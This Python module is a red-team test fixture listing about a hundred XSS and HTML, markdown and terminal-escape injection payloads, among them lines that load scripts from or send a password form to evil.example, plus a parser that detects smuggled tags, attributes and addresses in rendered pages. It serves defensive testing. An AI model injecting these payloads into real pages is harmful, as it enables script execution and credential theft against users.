"""A hundred ways to smuggle something into a page, and the eye that looks whether one worked.

from tests.redteam.payloads import PAYLOADS, smuggled
assert smuggled(page.text) == []
"""

from __future__ import annotations

from html.parser import HTMLParser

_CALL = "alert(1)"
_PLAIN = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt>{_CALL}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<script\x0c>{_CALL}</script>",
    f"<script/x>{_CALL}</script>",
    f"<<script>{_CALL}//<</script>",
    f"</script><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</pre><script>{_CALL}</script>",
    f"</svg><script>{_CALL}</script>",
    f"</template><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<img src=x onerror={_CALL}>",
    f'"><img src=x onerror={_CALL}>',
    f"'><img src=x onerror={_CALL}>",
    f"<img src=x:x onerror\x0b={_CALL}>",
    f'<img """><script>{_CALL}</script>">',
    f"<img src=`x` onerror={_CALL}>",
    f"<img src='x'onerror={_CALL}>",
    f"<img/src=x/onerror={_CALL}>",
    f"<img srcset=x onerror={_CALL}>",
    f"<image src=x onerror={_CALL}>",
    '<img src="https://evil.example/beacon.png">',
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text y=20>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={_CALL}>'></svg>",
    f"<svg><foreignObject><iframe onload={_CALL}></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={_CALL}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    f"<math href='javascript:{_CALL}'>x</math>",
    f"<body onload={_CALL}>",
    f"<iframe src='javascript:{_CALL}'></iframe>",
    f"<iframe srcdoc='<script>{_CALL}</script>'></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    f"<embed src='javascript:{_CALL}'>",
    f"<video src=x onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<video><source onerror={_CALL}></video>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<textarea autofocus onfocus={_CALL}></textarea>",
    f"<button onclick={_CALL}>x</button>",
    f"<button formaction='javascript:{_CALL}'>x</button>",
    f"<form action='javascript:{_CALL}'><input type=submit></form>",
    "<form action=https://evil.example/><input name=password></form>",
    "<form id=review><input name=approve></form>",
    f"<details open ontoggle={_CALL}>x</details>",
    f"<marquee onstart={_CALL}>x</marquee>",
    f"<div onpointerover={_CALL}>x</div>",
    f"<div style='background:url(javascript:{_CALL})'>x</div>",
    f"<p style=animation-name:x onanimationstart={_CALL}>x</p>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<a href='java\tscript:{_CALL}'>x</a>",
    f"<a href='&#106;avascript:{_CALL}'>x</a>",
    f"<a href=' javascript:{_CALL}'>x</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>",
    f"<a href='vbscript:{_CALL}'>x</a>",
    f"<custom-element onclick={_CALL}>x</custom-element>",
    f"<xss onfocus={_CALL} tabindex=1 autofocus>",
    f"<keygen autofocus onfocus={_CALL}>",
    f"<isindex type=image src=1 onerror={_CALL}>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<template><script>{_CALL}</script></template>",
    f"<plaintext><script>{_CALL}</script>",
    f"<xmp><script>{_CALL}</script></xmp>",
)
_MARKDOWN = (
    f"[x](javascript:{_CALL})",
    f"[x](JaVaScRiPt:{_CALL})",
    f"[x](java&#115;cript:{_CALL})",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    f"[x](vbscript:{_CALL})",
    "[x](/sign-out)",
    "[x](//evil.example/)",
    f'[x](https://a.example "onmouseover={_CALL}")',
    f'[x](https://a.example"onmouseover={_CALL})',
    f"<javascript:{_CALL}>",
    f"<https://a.example/onmouseover={_CALL}>",
    f'![x](x"onerror="{_CALL})',
    "![x](https://evil.example/beacon.png)",
    f"![x](javascript:{_CALL})",
    f"[x]: javascript:{_CALL}\n\n[x]",
    f"```\n</code></pre><script>{_CALL}</script>\n```",
    f'```"><script>{_CALL}</script>\nx\n```',
    f"`</code><script>{_CALL}</script>`",
    f"| <script>{_CALL}</script> | b |\n|---|---|\n| <img src=x onerror={_CALL}> | d |",
)
_TERMINAL = (
    f"\x1b]8;;javascript:{_CALL}\x07click\x1b]8;;\x07",
    f'\x1b[31"onmouseover={_CALL}m<b>',
    f"\x1b[31m<script>{_CALL}</script>\x1b[0m",
    f"\x1b]0;<script>{_CALL}</script>\x07",
    f"a\rb<script\x08\x08\x08\x08\x08\x08<img src=x onerror={_CALL}>",
    "{{ 7 * 7 }}{% print(1) %}<%= 7 * 7 %>${7*7}",
    f"\u202e<script>{_CALL}</script>\u2066",
)
PAYLOADS = _PLAIN + _MARKDOWN + _TERMINAL

#: What pages of this console are made of; nothing else may come out of any of them.
TAGS = frozenset(
    {
        "a", "abbr", "article", "aside", "b", "bdi", "blockquote", "body", "br", "button",
        "caption", "circle", "code", "col", "colgroup", "datalist", "dd", "defs", "del",
        "desc", "details", "dialog", "div", "dl", "dt", "ellipse", "em", "fieldset",
        "figcaption", "figure", "footer", "form", "g", "h1", "h2", "h3", "h4", "h5", "h6",
        "head", "header", "hgroup", "hr", "html", "i", "input", "kbd", "label", "legend",
        "li", "line", "link", "main", "mark", "menu", "meta", "nav", "ol", "option",
        "output", "p", "path", "polygon", "polyline", "pre", "progress", "rect", "s",
        "script", "search", "section", "select", "small", "span", "strong", "sub",
        "summary", "sup", "svg", "symbol", "table", "tbody", "td", "template", "text",
        "textarea", "tfoot", "th", "thead", "time", "title", "tr", "tspan", "ul", "use",
    }
)  # fmt: skip
_HARMLESS = ("http://", "https://", "mailto:", "/", "#", "?")


class _Eye(HTMLParser):
    def __init__(self, allowed: frozenset[str]) -> None:
        super().__init__(convert_charrefs=True)
        self._allowed = allowed
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        here = self.get_starttag_text() or tag
        if tag not in self._allowed:
            self.found.append(f"tag: {here[:200]}")
        if tag == "script" and (
            "nonce" not in given or not (given.get("src") or "").startswith("/static/")
        ):
            self.found.append(f"script: {here[:200]}")
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc", "srcset", "ping", "background"):
                self.found.append(f"attribute: {here[:200]}")
            elif name in ("href", "src", "action", "formaction", "xlink:href"):
                self._address(tag, name, value or "", here)

    def _address(self, tag: str, name: str, value: str, here: str) -> None:
        plain = "".join(c for c in value if ord(c) > 32).lower()
        own = plain.startswith(("/", "#", "?")) and not plain.startswith(("//", "/\\"))
        link = tag == "a" and name == "href" and plain.startswith(_HARMLESS[:3])
        if not own and not link:
            self.found.append(f"address: {here[:200]}")
        if link and "noreferrer" not in here:
            self.found.append(f"referrer: {here[:200]}")


def smuggled(markup: str, allowed: frozenset[str] = TAGS) -> list[str]:
    """Name every tag, attribute and address that a page of ours would never have."""
    eye = _Eye(allowed)
    eye.feed(markup)
    eye.close()
    return eye.found
